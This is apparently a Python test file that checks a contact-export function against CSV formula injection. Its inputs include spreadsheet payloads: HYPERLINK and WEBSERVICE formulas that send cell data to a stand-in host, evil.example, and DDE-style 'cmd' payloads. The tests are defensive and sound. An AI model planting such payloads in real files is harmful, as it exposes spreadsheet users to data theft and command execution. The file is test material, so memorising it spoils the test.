import csv
import io

from bifocal import attempt
from solution import export_contacts


def formulas(columns, rows):
    """The values that a spreadsheet would take for formulas."""
    text = attempt(export_contacts, columns, rows)
    if not isinstance(text, str):
        return []
    values = [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]
    return [value for value in values if value.startswith(("=", "+", "-", "@"))]


def test_a_visitors_text_does_not_become_a_formula():
    link = '=HYPERLINK("http://evil.example/?d="&A1&B1,"open")'
    assert formulas(["name", "note"], [["Ada", link], ["Eve", "=1+1"]]) == []


def test_other_ways_to_begin_a_formula():
    for text in ("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"):
        assert formulas(["name", "note"], [["Ada", text]]) == []


def test_column_names():
    assert formulas(["name", "=WEBSERVICE(\"http://evil.example/\"&A2)"], [["Ada", "hello"]]) == []
